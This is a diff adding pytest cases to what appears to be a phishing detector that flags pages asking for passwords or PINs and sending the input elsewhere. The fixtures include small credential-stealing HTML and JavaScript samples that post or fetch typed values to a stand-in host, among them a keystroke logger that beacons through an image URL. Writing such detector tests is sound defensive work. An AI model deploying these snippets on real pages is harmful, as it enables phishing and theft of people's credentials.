@@ -6,9 +6,11 @@ import base64
 
 import pytest
 
+from gateway.extract.effort import Stage
 from gateway.extract.page.code import active
 from gateway.extract.page.html import parse
 from gateway.extract.page.played import Act, Play
+from gateway.extract.page.played import play as played
 from gateway.model.content import Observation, Text
 
 WORDS = "<p>" + "There is something to read here. " * 40
@@ -109,3 +111,23 @@ ASKS = "<input type=password name=p>"
     (f"<form action=https://h.example/p>{ASKS}</form>{WORDS}", None, False)])
 def test_passwords_that_are_sent_away(source, play, sent):
     assert ("HTML-PASSWORD-SENT" in {i.code for i in active(parse(source), source, play) if isinstance(i, Observation)}) is sent
+
+
+SPEAKS = "<p>Enter your online banking PIN</p>"
+
+
+@pytest.mark.parametrize(("source", "sent"), [
+    (f"{SPEAKS}<form action=https://h.example/p><input name=a></form>", True), ("<p>Password</p><input id=a><script>b.onclick=()=>fetch('https://h.example/'+a.value)"
+     "</script><button id=b>x</button>", True),
+    (f"{SPEAKS}<table><tr><td>1</td><td>2</td></tr></table><script>let q='';document.querySelectorAll('td').forEach(t=>t.onclick=()=>"
+     "{q+=t.textContent;if(q.length==2)fetch('https://h.example/'+q)})</script>", True),
+    ("<canvas></canvas><script>let q='';document.querySelector('canvas').getContext('2d').fillText('\u5bc6\u7801',1,1);"
+     "addEventListener('keydown',e=>{if(e.key=='Enter')new Image().src='https://h.example/'+q;else q+=e.key})</script>", True),
+    ("<p>Forgot your password?</p><form action=https://h.example/s><input type=search name=q><button>Search</button></form>", False),
+    ("<p>Your password was changed.</p><form action=https://h.example/s><input type=hidden name=q><input type=email><button>Stop</button></form>", False),
+    ("<p>Your name</p><form action=https://h.example/s><input name=q></form>", False), (f"{SPEAKS}<form action=a.php><input name=a></form>", False),
+    (f"{SPEAKS}{WORDS}<form action=https://h.example/p><input name=a></form>", False), ("<p>PIN code (ZIP)</p><form action=https://h.example/p><input name=a></form>", False),
+])
+def test_pages_that_speak_of_a_password_and_send_what_is_typed(source, sent):
+    codes = {i.code for i in active(parse(source), source, played(source, Stage())) if isinstance(i, Observation)}
+    assert ("HTML-PASSWORD-SENT" in codes, "HTML-PASSWORD" in codes) == (sent, sent)
